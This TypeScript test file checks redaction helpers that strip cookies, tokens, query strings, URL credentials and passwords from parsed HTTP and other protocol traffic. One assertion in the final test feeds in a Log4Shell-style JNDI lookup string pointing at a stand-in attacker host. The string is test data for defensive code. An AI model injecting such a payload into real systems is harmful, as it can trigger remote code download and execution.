import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ApplicationFacts } from '../facts.ts';
import { parseHttpRequest } from '../http/parse-http-request.ts';
import { parseHttpResponse } from '../http/parse-http-response.ts';
import { PAYLOAD_PARSERS } from '../parsers.ts';
import { bytesOf } from '../testing/bytes.ts';
import { SEEDS } from '../testing/seeds.ts';
import { redactFacts, redactHeaders } from './redact-facts.ts';
import { redactText, redactUrl } from './redact-text.ts';

/** All text of facts, bytes included. */
const textOf = (facts: ApplicationFacts): string =>
  JSON.stringify(facts, (_, value: unknown) =>
    value instanceof Uint8Array ? Buffer.from(value).toString('latin1') : value,
  );

describe('redactFacts', () => {
  it('shows a request without what lets somebody in', () => {
    const facts = parseHttpRequest(
      bytesOf(
        'POST /a?key=SECRET HTTP/1.1\r\nHost: x.example\r\nCookie: SECRET\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nq=SECRET',
      ),
    )!;
    const shown = redactFacts(facts);
    assert.ok(shown.protocol === 'http' && shown.message === 'request');
    assert.equal(shown.target, '/a?[redacted]');
    assert.deepEqual(shown.headers.slice(0, 2), [
      ['Host', 'x.example'],
      ['Cookie', '[redacted]'],
    ]);
    assert.deepEqual([shown.head.length, shown.body.length], [facts.head.length, facts.body.length]);
    assert.doesNotMatch(textOf(shown), /SECRET/);
    assert.match(textOf(facts), /SECRET/);
  });

  it('shows a response without its cookies and where they lead', () => {
    const facts = parseHttpResponse(
      bytesOf('HTTP/1.1 302 Found\r\nSet-Cookie: s=SECRET\r\nLocation: https://x/?t=SECRET\r\n\r\n'),
    )!;
    assert.doesNotMatch(textOf(redactFacts(facts)), /SECRET/);
  });

  it('knows paths and names of HTTP/2', () => {
    assert.deepEqual(
      redactHeaders([
        [':path', '/a?b'],
        ['cookie', 'c'],
        ['authorization', 'Bearer t'],
        ['accept', '*/*'],
      ]),
      [
        [':path', '/a?[redacted]'],
        ['cookie', '[redacted]'],
        ['authorization', 'Bearer [redacted]'],
        ['accept', '*/*'],
      ],
    );
  });

  it('shows lines of other protocols without passwords', () => {
    const other = (detail: string): ApplicationFacts => ({
      protocol: 'other',
      message: 'request',
      name: 'irc',
      detail,
    });
    assert.deepEqual(redactFacts(other('PASS hunter2')), other('PASS [redacted]'));
    assert.deepEqual(redactFacts(other('EHLO a.example')), other('EHLO a.example'));
  });

  it('takes the facts of every parser', () => {
    for (const { parser: name, bytes, toServer, transport } of SEEDS) {
      const parser = PAYLOAD_PARSERS.find(
        (each) => each.name === name && (each.transport === 'both' || each.transport === transport),
      )!;
      for (const facts of parser.parse(bytes, bytes.length, toServer)) {
        assert.deepEqual(Object.keys(redactFacts(facts)), Object.keys(facts));
      }
    }
  });
});

describe('redactText and redactUrl', () => {
  it('replace by a word', () => {
    assert.equal(redactUrl('https://me:pw@x.example/a?b=c'), 'https://[redacted]@x.example/a?[redacted]');
    assert.equal(redactUrl('/a/b'), '/a/b');
    assert.equal(
      redactText('see http://x/?q=1 and http://u@y/ now'),
      'see http://x/?[redacted] and http://[redacted]@y/ now',
    );
    assert.equal(redactText('{jndi:ldap://evil.example:1389/a}'), '{jndi:ldap://evil.example:1389/a}');
  });
});
